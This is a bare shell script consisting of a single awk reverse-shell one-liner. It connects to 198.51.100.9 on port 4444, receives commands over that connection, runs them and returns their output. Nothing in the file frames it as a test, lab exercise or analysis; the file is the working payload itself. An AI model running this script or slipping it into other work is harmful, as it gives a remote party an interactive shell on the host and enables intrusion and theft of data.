#!/bin/sh
awk 'BEGIN { s = "/inet/tcp/0/198.51.100.9/4444"; while ((s |& getline c) > 0) { while ((c |& getline l) > 0) print l |& s; close(c) } }'
